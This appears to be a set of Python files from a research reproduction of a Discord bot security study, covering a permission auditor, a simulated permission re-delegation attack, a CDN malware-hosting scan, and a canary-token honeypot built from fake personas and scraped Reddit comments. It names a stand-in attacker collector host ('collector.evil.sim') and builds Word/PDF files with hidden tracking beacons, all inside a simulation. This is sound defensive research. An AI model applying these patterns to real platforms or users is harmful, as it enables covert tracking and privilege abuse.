            Permission.MANAGE_WEBHOOKS,
        ),
        BENIGN,
    ),
    (
        "ModSquad",
        Permissions.of(
            Permission.SEND_MESSAGES,
            Permission.KICK_MEMBERS,
            Permission.BAN_MEMBERS,
            Permission.MANAGE_MESSAGES,
        ),
        MODERATION_CHECKED,
    ),
    ("OmniBot", Permissions.of(Permission.ADMINISTRATOR, Permission.SEND_MESSAGES, Permission.KICK_MEMBERS), BENIGN),
)


def main() -> None:
    platform = DiscordPlatform()
    solver = TwoCaptchaClient(platform.clock, accuracy=1.0)
    owner = platform.create_user("guild-owner", phone_verified=True)
    guild = platform.create_guild(owner, "busy-community")
    channel = guild.text_channels()[0]
    guardian = GuildGuardian(platform)

    for name, permissions, behavior in BOTS:
        developer = platform.create_user(f"dev-{name}", phone_verified=True)
        application = platform.register_application(developer, name)
        url = build_invite_url(application.client_id, permissions)
        screen = platform.begin_install(owner.user_id, url, guild.guild_id)
        answer = solver.solve(screen.captcha_prompt)
        platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)
        runtime = build_runtime(platform, application.bot_user.user_id, behavior)
        guardian.register_api_client(runtime.api)

    # Some organic activity so usage stats mean something.
    for content in ("!ping", "hello all", "!info", "!poll pizza or tacos", "!ping"):
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, content)

    report = guardian.audit_guild(guild.guild_id)
    print(report.render())
    print()
    for audit in report.high_risk_bots:
        print(f"HIGH RISK: {audit.bot_name} (risk {audit.risk:.2f})")
        if audit.redundant_with_admin:
            print(f"  requests administrator plus redundant: {', '.join(audit.redundant_with_admin)}")
        if audit.granted_but_unused:
            print(f"  granted but never used: {', '.join(audit.granted_but_unused)}")
        if audit.data_exposure:
            print(f"  can reach: {', '.join(audit.data_exposure)}")


if __name__ == "__main__":
    main()
