"""Platform comparison: does a runtime policy enforcer stop re-delegation?

The paper observes that Slack and MS Teams pair OAuth with a runtime policy
enforcer, while Discord entrusts user-permission checks to third-party
developers — "which widens the attack surface".  This example installs the
same *unchecked* privileged moderation bot on all four simulated platform
postures and runs the identical re-delegation attack on each.

Usage:
    python examples/platform_comparison.py
"""

from repro.discordsim.behaviors import MODERATION_UNCHECKED, build_runtime
from repro.discordsim.oauth import build_invite_url
from repro.discordsim.permissions import Permission, Permissions
from repro.platforms import PLATFORM_PROFILES, make_platform
from repro.web.captcha import TwoCaptchaClient


def run_attack(profile_name: str) -> tuple[bool, str]:
    """Returns (attack_succeeded, bot_reply)."""
    platform = make_platform(profile_name)
    solver = TwoCaptchaClient(platform.clock, accuracy=1.0)

    owner = platform.create_user("owner", phone_verified=True)
    guild = platform.create_guild(owner, "shared-workspace")
    developer = platform.create_user("dev", phone_verified=True)
    application = platform.register_application(developer, "ModBot")
    if platform.policy.vetting_review:
        platform.vet_application(application.client_id)

    url = build_invite_url(application.client_id, Permissions.of(Permission.ADMINISTRATOR))
    screen = platform.begin_install(owner.user_id, url, guild.guild_id)
    answer = solver.solve(screen.captcha_prompt)
    platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)
    build_runtime(platform, application.bot_user.user_id, MODERATION_UNCHECKED)

    victim = platform.create_user("victim")
    platform.join_guild(victim.user_id, guild.guild_id)
    attacker = platform.create_user("attacker")  # holds no moderation permission
    platform.join_guild(attacker.user_id, guild.guild_id)

    channel = guild.text_channels()[0]
    platform.post_message(attacker.user_id, guild.guild_id, channel.channel_id, f"!kick {victim.user_id}")
    succeeded = victim.user_id not in guild.members
    reply = channel.messages[-1].content
    return succeeded, reply


def main() -> None:
    print("Permission re-delegation attack: unprivileged user -> privileged unchecked bot\n")
    print(f"{'platform':10s} {'enforcer':9s} {'vetting':8s} {'attack result':15s} bot reply")
    print("-" * 90)
    for name, profile in PLATFORM_PROFILES.items():
        succeeded, reply = run_attack(name)
        verdict = "SUCCEEDED" if succeeded else "blocked"
        enforcer = "yes" if profile.runtime_enforcer else "no"
        vetting = "yes" if profile.marketplace_vetting else "no"
        print(f"{name:10s} {enforcer:9s} {vetting:8s} {verdict:15s} {reply!r}")
    print()
    print("The developer never checked the invoking user's permission; only the")
    print("platforms with a runtime policy enforcer contained the attack.")


if __name__ == "__main__":
    main()
