"""CDN abuse sweep: malware hosted on the platform's content network.

Recreates the measurement behind the paper's motivating citation — Sophos
found ">17,000 unique URLs in Discord's content delivery network pointing
to malware".  A population of guilds shares files; a small fraction of
actors upload droppers disguised as freebies; everything lands on the
public, unauthenticated CDN; an abuse scanner sweeps the inventory.

Usage:
    python examples/cdn_abuse_scan.py [n_guilds]
"""

import random
import sys

from repro.analysis.cdn_abuse import MALWARE_MARKER, CdnAbuseScanner
from repro.discordsim.cdn import DiscordCDN
from repro.discordsim.models import Attachment
from repro.discordsim.platform import DiscordPlatform
from repro.web.network import VirtualInternet

BENIGN_FILES = (
    ("meeting-notes.docx", "application/msword", "quarterly planning notes"),
    ("holiday.png", "image/png", "PNG image bytes"),
    ("playlist.txt", "text/plain", "1. lofi beats\n2. synthwave"),
    ("rules.pdf", "application/pdf", "%PDF-1.7 community rules"),
)

DROPPER_NAMES = ("free-nitro.exe", "cheat-loader.scr", "update-patch.bat", "cracked-game.jar")


def main() -> None:
    n_guilds = int(sys.argv[1]) if len(sys.argv) > 1 else 60
    rng = random.Random(30)

    platform = DiscordPlatform()
    internet = VirtualInternet(platform.clock, seed=30)
    cdn = DiscordCDN(platform)
    cdn.register(internet)

    malicious_posted = 0
    for index in range(n_guilds):
        owner = platform.create_user(f"owner{index}", phone_verified=True)
        guild = platform.create_guild(owner, f"community-{index}")
        channel = guild.text_channels()[0]
        for _ in range(rng.randint(1, 4)):
            name, content_type, content = rng.choice(BENIGN_FILES)
            attachment = Attachment(
                platform.snowflakes.next_id(), name, content_type, len(content), content=content
            )
            platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "file", [attachment])
        # ~15% of guilds have someone sharing a dropper.
        if rng.random() < 0.15:
            malicious_posted += 1
            name = rng.choice(DROPPER_NAMES)
            payload = f"MZ{MALWARE_MARKER}{rng.random()}"
            dropper = Attachment(
                platform.snowflakes.next_id(), name, "application/octet-stream", len(payload), content=payload
            )
            platform.post_message(
                owner.user_id, guild.guild_id, channel.channel_id, "free stuff, no virus trust me", [dropper]
            )

    print(f"{n_guilds} guilds shared {cdn.total_hosted} files; all publicly reachable on {len(cdn.hosted_urls())} CDN URLs.")
    report = CdnAbuseScanner(internet).scan(cdn)
    print(f"Scanned {report.urls_scanned} URLs: {report.malicious_count} serve malware "
          f"({report.malicious_fraction * 100:.1f}%), {report.executable_payloads} as executables.")
    print(f"(Ground truth: {malicious_posted} droppers were posted.)")
    print("\nSample malicious URLs (live to anyone, no account needed):")
    for url in report.malicious_urls[:5]:
        print(f"  {url}")


if __name__ == "__main__":
    main()
