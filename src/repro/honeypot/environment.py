"""Per-bot isolated honeypot environments.

"We test each chatbot in an independent and isolated messaging environment
... we create new private guilds, add a chatbot to the guild using the
chatbot invite link and post messages using automation.  We name each guild
after the corresponding chatbots for easy identification."
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Callable

from repro.discordsim.guild import Guild
from repro.discordsim.models import Message, User
from repro.discordsim.platform import DiscordPlatform
from repro.ecosystem.generator import BotProfile
from repro.honeypot.console import CanaryConsole
from repro.honeypot.feed import post_feed
from repro.honeypot.personas import PersonaSet, create_personas, join_guild_with_verification
from repro.honeypot.tokens import CanaryToken, TokenFactory, TokenKind
from repro.web.captcha import TwoCaptchaClient


@dataclass
class GuildEnvironment:
    """One provisioned honeypot guild, armed and seeded."""

    guild: Guild
    owner: User
    personas: PersonaSet
    tokens: list[CanaryToken] = field(default_factory=list)
    feed_messages: list[Message] = field(default_factory=list)
    token_messages: list[Message] = field(default_factory=list)

    @property
    def context(self) -> str:
        return self.guild.name


def provision_environment(
    platform: DiscordPlatform,
    bot: BotProfile,
    console: CanaryConsole,
    factory: TokenFactory,
    solver: TwoCaptchaClient,
    rng: random.Random,
    personas_per_guild: int = 5,
    feed_messages: int = 25,
    token_kinds: tuple[TokenKind, ...] = (TokenKind.URL, TokenKind.EMAIL, TokenKind.WORD, TokenKind.PDF),
    on_installed: "Callable[[GuildEnvironment], None] | None" = None,
    personas: PersonaSet | None = None,
    message_source: "Callable[[], str] | None" = None,
) -> GuildEnvironment:
    """Create the guild, install the bot, post the feed and arm the tokens.

    Installation solves the platform's reCAPTCHA through the 2Captcha
    client, as the paper's automation does.  ``on_installed`` fires right
    after the bot joins and *before* any content is posted — this is where
    the experiment connects the bot's runtime so it observes the guild the
    way a live bot would.
    """
    owner = platform.create_user(f"owner-{bot.name.lower()}"[:28], phone_verified=True)
    guild = platform.create_guild(owner, bot.name, private=True)
    if personas is None:
        personas = create_personas(platform, personas_per_guild, rng)
    join_guild_with_verification(platform, personas, guild)

    # Install the bot under test via its OAuth link + captcha.
    screen = platform.begin_install(owner.user_id, bot.invite_url, guild.guild_id)
    answer = solver.solve_with_retries(screen.captcha_prompt or "")
    platform.complete_install(
        owner.user_id,
        guild.guild_id,
        bot.invite_url,
        screen.captcha_challenge_id or "",
        answer,
    )
    if on_installed is not None:
        on_installed(GuildEnvironment(guild=guild, owner=owner, personas=personas))

    channel = guild.text_channels()[0]
    environment = GuildEnvironment(guild=guild, owner=owner, personas=personas)

    # Seed the conversational feed first so the guild looks active.
    environment.feed_messages = post_feed(
        platform, guild, channel.channel_id, personas, feed_messages, rng,
        message_source=message_source,
    )

    # Arm and post the canary tokens, attributed to this guild by name.
    for kind in token_kinds:
        token = factory.mint(kind, context=guild.name)
        console.deploy(token)
        environment.tokens.append(token)
        poster = rng.choice(personas.users)
        if kind is TokenKind.URL:
            message = platform.post_message(
                poster.user_id, guild.guild_id, channel.channel_id, factory.url_message(token)
            )
        elif kind is TokenKind.EMAIL:
            message = platform.post_message(
                poster.user_id, guild.guild_id, channel.channel_id, factory.email_message(token)
            )
        elif kind is TokenKind.WORD:
            attachment = factory.word_attachment(token, platform.snowflakes.next_id())
            message = platform.post_message(
                poster.user_id, guild.guild_id, channel.channel_id, "notes from the call", [attachment]
            )
        else:
            attachment = factory.pdf_attachment(token, platform.snowflakes.next_id())
            message = platform.post_message(
                poster.user_id, guild.guild_id, channel.channel_id, "invoice attached", [attachment]
            )
        environment.token_messages.append(message)
    return environment
