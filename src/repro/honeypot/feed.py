"""The conversational feed: make a honeypot guild look lived-in.

"For the honeypot environment to appear active and in use, we provide a
feed of frequent exchange of messages from multiple (automated) users ...
our system ensures that the virtual accounts post alternating messages so
that interactions resemble legitimate conversations between actual users."
"""

from __future__ import annotations

import random
from typing import Callable

from repro.discordsim.guild import Guild
from repro.discordsim.models import Message
from repro.discordsim.platform import DiscordPlatform
from repro.ecosystem.corpus import ConversationGenerator
from repro.honeypot.personas import PersonaSet


def post_feed(
    platform: DiscordPlatform,
    guild: Guild,
    channel_id: int,
    personas: PersonaSet,
    message_count: int,
    rng: random.Random,
    inter_message_delay: float = 8.0,
    message_source: "Callable[[], str] | None" = None,
) -> list[Message]:
    """Post ``message_count`` corpus messages from alternating personas.

    Consecutive messages never come from the same persona, and a small
    randomised delay separates posts so timestamps look organic.
    ``message_source`` overrides where the text comes from — e.g. an
    :class:`~repro.honeypot.osn_source.OsnFeedSource` of scraped OSN
    comments, the paper's actual data path.
    """
    if not personas.users:
        raise ValueError("need at least one persona to post a feed")
    if message_source is None:
        generator = ConversationGenerator(rng)
        message_source = lambda: generator.next_message().text  # noqa: E731
    messages: list[Message] = []
    previous_index: int | None = None
    for _ in range(message_count):
        candidates = [index for index in range(len(personas.users)) if index != previous_index]
        author_index = rng.choice(candidates) if candidates else 0
        previous_index = author_index
        author = personas.users[author_index]
        platform.clock.sleep(rng.uniform(0.5, inter_message_delay))
        messages.append(
            platform.post_message(
                author.user_id,
                guild.guild_id,
                channel_id,
                message_source(),
            )
        )
    return messages


def alternation_violations(messages: list[Message]) -> int:
    """Count adjacent same-author pairs (should be zero for a proper feed)."""
    violations = 0
    for earlier, later in zip(messages, messages[1:]):
        if earlier.author_id == later.author_id:
            violations += 1
    return violations
