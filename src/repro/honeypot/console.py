"""The canary console: receives and attributes token triggers.

Two virtual hosts: ``canary.sim`` serves the beacon endpoint
(``GET /t/{token_id}``) that URL/Word/PDF tokens point at, and
``mail.canary.sim`` accepts SMTP-ish deliveries to canary mailboxes.
Every trigger is recorded with the requesting client id and the token's
deployment context (guild name = bot under test).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.honeypot.tokens import CANARY_DOMAIN, CanaryToken, TokenKind
from repro.web.http import Request, Response
from repro.web.network import VirtualInternet
from repro.web.server import VirtualHost

CANARY_HOSTNAME = CANARY_DOMAIN
MAIL_HOSTNAME = f"mail.{CANARY_DOMAIN}"


@dataclass(frozen=True)
class TriggerRecord:
    """One token trigger, as the console logs it."""

    time: float
    token_id: str
    kind: TokenKind
    context: str  # guild / bot name
    client_id: str  # who fetched the beacon


@dataclass
class RegisteredToken:
    token: CanaryToken
    deployed_at: float


class CanaryConsole:
    """Token registry + trigger sink."""

    def __init__(self) -> None:
        self._tokens: dict[str, RegisteredToken] = {}
        self.triggers: list[TriggerRecord] = []
        self.unknown_hits: int = 0
        self.host = VirtualHost(CANARY_HOSTNAME)
        self.mail_host = VirtualHost(MAIL_HOSTNAME)
        self.host.add_route("/t/{token_id}", self._beacon)
        self.mail_host.add_route("/smtp", self._smtp, method="POST")
        self._clock_now = lambda: 0.0

    def register(self, internet: VirtualInternet) -> None:
        internet.register(CANARY_HOSTNAME, self.host)
        internet.register(MAIL_HOSTNAME, self.mail_host)
        self._clock_now = internet.clock.now

    # -- token lifecycle ------------------------------------------------------

    def deploy(self, token: CanaryToken) -> None:
        """Arm a freshly minted token."""
        self._tokens[token.token_id] = RegisteredToken(token=token, deployed_at=self._clock_now())

    def tokens_for_context(self, context: str) -> list[CanaryToken]:
        return [entry.token for entry in self._tokens.values() if entry.token.context == context]

    # -- endpoints ----------------------------------------------------------------

    def _beacon(self, request: Request, token_id: str) -> Response:
        entry = self._tokens.get(token_id)
        if entry is None:
            self.unknown_hits += 1
            return Response.text("ok")  # indistinguishable from a real hit
        self.triggers.append(
            TriggerRecord(
                time=self._clock_now(),
                token_id=token_id,
                kind=entry.token.kind,
                context=entry.token.context,
                client_id=request.client_id,
            )
        )
        return Response.text("ok")

    def _smtp(self, request: Request) -> Response:
        """Record mail sent to canary mailboxes (``To: <id>@canary.sim``)."""
        recipient = ""
        for line in request.body.splitlines():
            if line.lower().startswith("to:"):
                recipient = line.split(":", 1)[1].strip()
                break
        local, _, domain = recipient.partition("@")
        if domain != CANARY_DOMAIN:
            return Response.text("relay denied", status=403)
        entry = self._tokens.get(local)
        if entry is None:
            self.unknown_hits += 1
            return Response.text("accepted")
        self.triggers.append(
            TriggerRecord(
                time=self._clock_now(),
                token_id=local,
                kind=TokenKind.EMAIL,
                context=entry.token.context,
                client_id=request.client_id,
            )
        )
        return Response.text("accepted")

    # -- analysis --------------------------------------------------------------------

    def triggers_by_context(self) -> dict[str, list[TriggerRecord]]:
        grouped: dict[str, list[TriggerRecord]] = {}
        for record in self.triggers:
            grouped.setdefault(record.context, []).append(record)
        return grouped
