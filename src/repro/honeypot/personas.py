"""Virtual personas for honeypot guilds.

"We note that to post a seemingly real conversation we create fake personas
by registering virtual users into Discord.  In practice, we found that when
a new account quickly joins many guilds, it is flagged by Discord, and
mobile verification is required.  As such, we completed this step manually."

The platform's anti-abuse flag fires here too; :func:`create_personas`
performs the "manual" verification and counts how often it was needed.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.discordsim.guild import Guild
from repro.discordsim.models import User
from repro.discordsim.platform import DiscordPlatform, VerificationRequired

_PERSONA_NAMES = (
    "jordan", "casey", "riley", "alex", "morgan", "skyler", "avery",
    "quinn", "reese", "dakota", "emery", "finley", "harper", "kendall",
)


@dataclass
class PersonaSet:
    """A reusable pool of virtual users plus provisioning bookkeeping."""

    users: list[User] = field(default_factory=list)
    manual_verifications: int = 0

    def __iter__(self):
        return iter(self.users)

    def __len__(self) -> int:
        return len(self.users)


def create_personas(platform: DiscordPlatform, count: int, rng: random.Random) -> PersonaSet:
    """Register ``count`` fresh virtual accounts."""
    personas = PersonaSet()
    for index in range(count):
        name = f"{rng.choice(_PERSONA_NAMES)}{rng.randint(10, 99)}"
        personas.users.append(platform.create_user(name, email=f"{name}@example.sim"))
    return personas


def join_guild_with_verification(
    platform: DiscordPlatform,
    personas: PersonaSet,
    guild: Guild,
) -> None:
    """Join every persona, handling the mobile-verification flag manually."""
    for user in personas.users:
        try:
            platform.join_guild(user.user_id, guild.guild_id)
        except VerificationRequired:
            platform.verify_phone(user.user_id)
            personas.manual_verifications += 1
            platform.join_guild(user.user_id, guild.guild_id)
