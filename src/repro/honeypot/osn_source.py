"""OSN-sourced feed messages: scrape them like the paper did.

:class:`OsnFeedSource` crawls ``reddit.sim`` comment threads and serves
them as honeypot feed messages, replacing the direct corpus generator with
the paper's actual data path (public OSN messages -> guild feed).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.scraper.base import PoliteScraper
from repro.sites.reddit import REDDIT_HOSTNAME, SUBREDDITS
from repro.web.browser import By, TimeoutException, WebDriverException
from repro.web.network import VirtualInternet


class RedditScraper(PoliteScraper):
    """Collect comment bodies from subreddit pages."""

    def fetch_comments(self, subreddit: str) -> list[str]:
        try:
            response = self.fetch(f"https://{REDDIT_HOSTNAME}/r/{subreddit}")
        except (TimeoutException, WebDriverException):
            return []
        if response.status != 200:
            return []
        return [element.text for element in self.browser.find_elements(By.CSS_SELECTOR, "p.comment-body")]


@dataclass
class OsnFeedSource:
    """A shuffled pool of scraped OSN messages, cycled as a feed source."""

    messages: list[str] = field(default_factory=list)
    _cursor: int = 0

    @classmethod
    def scrape(
        cls,
        internet: VirtualInternet,
        subreddits: tuple[str, ...] = SUBREDDITS,
        seed: int = 0,
        client_id: str = "osn-collector",
    ) -> "OsnFeedSource":
        scraper = RedditScraper(internet, client_id=client_id)
        pool: list[str] = []
        for subreddit in subreddits:
            pool.extend(scraper.fetch_comments(subreddit))
        random.Random(seed).shuffle(pool)
        return cls(messages=pool)

    def next_message(self) -> str:
        if not self.messages:
            raise ValueError("the OSN pool is empty — was reddit.sim registered?")
        message = self.messages[self._cursor % len(self.messages)]
        self._cursor += 1
        return message

    def __len__(self) -> int:
        return len(self.messages)
