"""Canary token minting.

Four token kinds, as in the paper: a URL, an email address, a Word document
and a PDF.  "Canary tokens consist of unique identifiers embedded in URLs or
placed in a document meta-data.  Requesting the URL or opening the document
allows us to receive a signal tied to the token."
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from enum import Enum

from repro.discordsim.models import Attachment

CANARY_DOMAIN = "canary.sim"


class TokenKind(Enum):
    URL = "url"
    EMAIL = "email"
    WORD = "word"
    PDF = "pdf"


@dataclass(frozen=True)
class CanaryToken:
    """One minted token, bound to its deployment context (the guild)."""

    token_id: str
    kind: TokenKind
    context: str  # guild name == bot under test

    @property
    def trigger_url(self) -> str:
        """The beacon URL embedded in (or constituting) the artifact."""
        return f"https://{CANARY_DOMAIN}/t/{self.token_id}?kind={self.kind.value}"

    @property
    def email_address(self) -> str:
        return f"{self.token_id}@{CANARY_DOMAIN}"


class TokenFactory:
    """Mints unique tokens and the channel artifacts that carry them."""

    def __init__(self, secret: str = "repro-canary") -> None:
        self._secret = secret
        self._counter = 0

    def _mint_id(self, kind: TokenKind, context: str) -> str:
        self._counter += 1
        digest = hashlib.sha256(f"{self._secret}|{kind.value}|{context}|{self._counter}".encode()).hexdigest()
        return digest[:20]

    def mint(self, kind: TokenKind, context: str) -> CanaryToken:
        return CanaryToken(token_id=self._mint_id(kind, context), kind=kind, context=context)

    # -- artifacts -------------------------------------------------------------

    def url_message(self, token: CanaryToken) -> str:
        """Chat message carrying the canary URL."""
        return f"check this out {token.trigger_url}"

    def email_message(self, token: CanaryToken) -> str:
        """Chat message carrying the canary email address."""
        return f"hmu at {token.email_address} if you want in"

    def word_attachment(self, token: CanaryToken, attachment_id: int) -> Attachment:
        """A .docx whose metadata references a remote template (the beacon).

        Opening the document in a rendering client fetches the template URL;
        merely downloading the bytes does not.
        """
        return Attachment(
            attachment_id=attachment_id,
            filename="meeting-notes.docx",
            content_type="application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            size=18_432,
            content="PK\x03\x04 [word/document.xml] quarterly planning notes ...",
            metadata={"template": token.trigger_url, "author": "jordan"},
            remote_resources=[token.trigger_url],
        )

    def pdf_attachment(self, token: CanaryToken, attachment_id: int) -> Attachment:
        """A PDF whose metadata embeds a remote resource beacon."""
        return Attachment(
            attachment_id=attachment_id,
            filename="invoice-0042.pdf",
            content_type="application/pdf",
            size=24_117,
            content="%PDF-1.7 ... /URI ...",
            metadata={"uri": token.trigger_url, "producer": "repro-pdf"},
            remote_resources=[token.trigger_url],
        )
