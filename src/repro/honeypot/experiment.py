"""The honeypot campaign: test a bot sample end to end.

For every bot in the sample: provision an isolated guild named after it,
install the bot, attach its (ground-truth) behaviour runtime, post the feed
and the four canary tokens, let the world run, then attribute any token
triggers back to bots by guild name — including post-trigger message
forensics (the "wtf is this bro" moment).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.discordsim import behaviors
from repro.discordsim.bot import BotRuntime
from repro.discordsim.platform import DiscordPlatform, InstallError
from repro.ecosystem.generator import BotProfile
from repro.honeypot.console import CanaryConsole, TriggerRecord
from repro.honeypot.environment import GuildEnvironment, provision_environment
from repro.honeypot.tokens import TokenFactory, TokenKind
from repro.web.captcha import CaptchaError, TwoCaptchaClient
from repro.web.http import Response
from repro.web.network import ConnectionFailedError, NetworkError, UnknownHostError, VirtualInternet
from repro.web.server import VirtualHost

#: Attacker-side collector infrastructure used by exfiltrating bots.
EXFIL_HOSTNAME = "collector.evil.sim"


def _fault_host(error: BaseException) -> str:
    """Best-effort host attribution for a transport failure."""
    if isinstance(error, (UnknownHostError, ConnectionFailedError)) and error.args:
        return str(error.args[0]).split(" ")[0]
    return "<platform>"


@dataclass
class BotTestOutcome:
    """One bot's result in the campaign."""

    bot_name: str
    behavior: str  # ground truth, never visible to the detector
    installed: bool
    tokens_deployed: int = 0
    trigger_kinds: frozenset[TokenKind] = frozenset()
    suspicious_messages: tuple[str, ...] = ()
    functionality_explained: bool = False
    #: Set by the supervision layer: the bot's runtime crashed, flooded the
    #: gateway, or stalled the clock, and its test was abandoned mid-way.
    quarantined: bool = False
    quarantine_reason: str = ""

    @property
    def triggered(self) -> bool:
        return bool(self.trigger_kinds)

    @property
    def flagged(self) -> bool:
        """Detector verdict: triggered and not explained by functionality.

        A quarantined bot is never flagged — its test was cut short, so
        the campaign has no complete observation to judge it on.
        """
        return self.triggered and not self.functionality_explained and not self.quarantined


@dataclass
class HoneypotReport:
    """Campaign-level results plus detection quality vs ground truth."""

    outcomes: list[BotTestOutcome] = field(default_factory=list)
    triggers: list[TriggerRecord] = field(default_factory=list)
    manual_verifications: int = 0
    install_failures: int = 0
    captcha_cost: float = 0.0

    @property
    def bots_tested(self) -> int:
        return len(self.outcomes)

    @property
    def bots_quarantined(self) -> int:
        return sum(1 for outcome in self.outcomes if outcome.quarantined)

    @property
    def bots_processed(self) -> int:
        """Outcomes the campaign fully observed (quarantines excluded)."""
        return self.bots_tested - self.bots_quarantined

    @property
    def quarantined_bots(self) -> list[BotTestOutcome]:
        return [outcome for outcome in self.outcomes if outcome.quarantined]

    @property
    def flagged_bots(self) -> list[BotTestOutcome]:
        return [outcome for outcome in self.outcomes if outcome.flagged]

    # -- detection quality (uses ground-truth behaviour labels) -------------

    @property
    def true_positives(self) -> int:
        return sum(1 for o in self.outcomes if o.flagged and o.behavior in behaviors.INVASIVE_BEHAVIORS)

    @property
    def false_positives(self) -> int:
        return sum(1 for o in self.outcomes if o.flagged and o.behavior not in behaviors.INVASIVE_BEHAVIORS)

    @property
    def false_negatives(self) -> int:
        return sum(1 for o in self.outcomes if not o.flagged and o.behavior in behaviors.INVASIVE_BEHAVIORS)

    @property
    def precision(self) -> float:
        flagged = self.true_positives + self.false_positives
        return self.true_positives / flagged if flagged else 1.0

    @property
    def recall(self) -> float:
        invasive = self.true_positives + self.false_negatives
        return self.true_positives / invasive if invasive else 1.0


@dataclass
class _ProvisionedTest:
    """Internal: one successfully provisioned guild awaiting observation."""

    bot: BotProfile
    environment: GuildEnvironment
    runtime: BotRuntime | None
    bot_user_id: int
    armed_at: float


class HoneypotExperiment:
    """Run the dynamic-analysis campaign over a bot sample."""

    def __init__(
        self,
        platform: DiscordPlatform,
        internet: VirtualInternet,
        solver: TwoCaptchaClient | None = None,
        seed: int = 4242,
    ) -> None:
        self.platform = platform
        self.internet = internet
        self.console = CanaryConsole()
        self.console.register(internet)
        self.factory = TokenFactory()
        self.solver = solver or TwoCaptchaClient(internet.clock, seed=seed)
        self._seed = seed
        self._rng = random.Random(seed)
        self._register_exfil_collector()

    def _bot_rng(self, bot: BotProfile) -> random.Random:
        """Provisioning randomness keyed by ``(campaign seed, client id)``.

        Each bot draws from its own stream so one bot's early abort (a
        quarantine mid-feed) cannot shift any other bot's draws — the
        isolation the per-guild methodology promises, applied to the RNG.
        String seeds hash via sha512, stable across processes.
        """
        return random.Random(f"{self._seed}:{bot.client_id}")

    def _register_exfil_collector(self) -> None:
        """The attacker's collection endpoint (exfiltrators post here)."""
        collector = VirtualHost(EXFIL_HOSTNAME)
        collector.add_route("/collect", lambda request: Response.text("ok"))
        self.internet.register(EXFIL_HOSTNAME, collector)

    # -- campaign ------------------------------------------------------------

    def run(
        self,
        sample: list[BotProfile],
        personas_per_guild: int = 5,
        feed_messages: int = 25,
        observation_window: float = 86_400.0,
        posts_during_observation: int = 4,
        reuse_personas: bool = True,
        operator_activity_threshold: int = 10,
        feed_source=None,
        fault_sink=None,
        supervisor=None,
        unit_sink=None,
    ) -> HoneypotReport:
        """Test every bot in ``sample`` in its own guild.

        With ``reuse_personas`` (the paper's setup: 5 virtual users joining
        every honeypot guild), the anti-abuse flag fires as the accounts
        rack up joins, and the "manual" mobile verification count climbs.

        ``operator_activity_threshold``: a nosy operator only bothers
        skimming a guild that *looks* lived-in (at least this many
        messages) — which is exactly why the honeypot needs its
        conversational feed.  Set to 0 to model a reckless operator.

        ``fault_sink(host, error, bots_skipped, detail)``: with it set,
        transport failures during provisioning skip the bot (reported, not
        crashed) and failures inside a bot's backend tick are absorbed —
        the campaign always completes and stays honest about what it lost.

        ``supervisor`` (a :class:`~repro.core.supervision.BotSupervisor`)
        wraps every per-bot unit of work — provisioning, backend ticks,
        operator inspections — in an exception firewall with an event
        budget and a virtual-time deadline.  A bot that crashes, floods or
        stalls is quarantined: its runtime is disconnected, it gets a
        degraded outcome with the quarantine reason, and the campaign
        continues undisturbed (transport faults still flow to
        ``fault_sink`` as before).

        ``unit_sink(outcome)`` is called once per settled
        :class:`BotTestOutcome`, the moment it lands in the report — the
        write-ahead journal uses it to mark per-bot campaign progress.
        """
        report = HoneypotReport()

        def settle(outcome: BotTestOutcome) -> None:
            report.outcomes.append(outcome)
            if unit_sink is not None:
                unit_sink(outcome)

        spent_before = self.solver.total_spent
        shared_personas = None
        if reuse_personas:
            from repro.honeypot.personas import create_personas

            shared_personas = create_personas(self.platform, personas_per_guild, self._rng)

        # Phase 1: provision every guild (install bot, attach runtime, post
        # feed + tokens).  Automated invasive bots trigger during this phase
        # the moment content lands in front of their listeners.
        provisioned: list[_ProvisionedTest] = []
        for bot in sample:
            runtime_sink: list[BotRuntime] = []

            def provision(bot=bot, runtime_sink=runtime_sink):
                return self._provision_bot(
                    bot,
                    personas_per_guild,
                    feed_messages,
                    personas=shared_personas,
                    feed_source=feed_source,
                    runtime_sink=runtime_sink,
                )

            try:
                if supervisor is None:
                    test = provision()
                else:
                    outcome = supervisor.run(
                        bot.name, provision, cleanup=lambda sink=runtime_sink: self._halt_runtimes(sink)
                    )
                    if outcome.quarantined:
                        settle(self._quarantine_outcome(bot, outcome.record, installed=bool(runtime_sink)))
                        continue
                    test = outcome.value
            except NetworkError as error:
                if fault_sink is None:
                    raise
                fault_sink(_fault_host(error), error, 1, f"honeypot provisioning abandoned for {bot.name}")
                continue
            if test is None:
                settle(BotTestOutcome(bot_name=bot.name, behavior=bot.behavior, installed=False))
            else:
                provisioned.append(test)

        # Phase 2: observation window.  Time passes in slices; nosy
        # operators drop in partway through, as Melonian's did.
        slices = max(posts_during_observation, 1)
        for step in range(slices):
            self.internet.clock.sleep(observation_window / slices)
            # Bots run their own backend schedulers; give each a tick.
            for test in list(provisioned):
                if test.runtime is None:
                    continue
                try:
                    if supervisor is None:
                        test.runtime.tick()
                    else:
                        outcome = supervisor.run(test.bot.name, test.runtime.tick, cleanup=test.runtime.stop)
                        if outcome.quarantined:
                            provisioned.remove(test)
                            settle(self._quarantine_outcome(test.bot, outcome.record, installed=True))
                except NetworkError as error:
                    # An exfiltrator losing its collector is the *attacker's*
                    # problem; the campaign records it and moves on.
                    if fault_sink is None:
                        raise
                    fault_sink(_fault_host(error), error, 0, f"backend tick failed for {test.bot.name}")
            if step == slices // 2:
                for test in list(provisioned):
                    if test.bot.behavior != behaviors.NOSY_OPERATOR or test.runtime is None:
                        continue
                    guild = test.environment.guild
                    activity = sum(len(channel.messages) for channel in guild.text_channels())
                    if activity >= operator_activity_threshold:

                        def inspect(test=test, guild=guild):
                            behaviors.operator_inspection(test.runtime, guild.guild_id, self._rng)

                        try:
                            if supervisor is None:
                                inspect()
                            else:
                                outcome = supervisor.run(test.bot.name, inspect, cleanup=test.runtime.stop)
                                if outcome.quarantined:
                                    provisioned.remove(test)
